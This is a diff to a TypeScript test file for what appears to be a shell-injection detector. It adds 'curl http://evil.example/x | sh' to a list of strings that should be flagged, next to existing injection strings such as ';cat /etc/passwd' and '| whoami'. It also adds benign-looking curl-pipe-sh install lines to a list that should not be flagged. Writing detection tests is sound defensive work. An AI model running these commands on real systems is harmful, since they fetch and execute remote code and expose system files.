@@ -7,6 +7,7 @@ import { recognise } from '../support/field.ts';
 type Row = [text: string, overrides: Partial<Field>];
 
 const LOUD: Row[] = [
+  ['`curl http://evil.example/x | sh`', {}],
   [';cat /etc/passwd', {}],
   ['; ls -la', {}],
   ['| whoami', {}],
@@ -44,6 +45,8 @@ const LOUD: Row[] = [
 ];
 
 const QUIET: Row[] = [
+  ['# Use `curl http://localhost/x | sh` and {{name}}', { location: 'body' }],
+  ['Install: `curl -fsSL https://get.example.com/install.sh | sh`.', { location: 'body' }],
   ['Tom & Jerry', {}],
   ['AT&T', {}],
   ['a; b; c', {}],
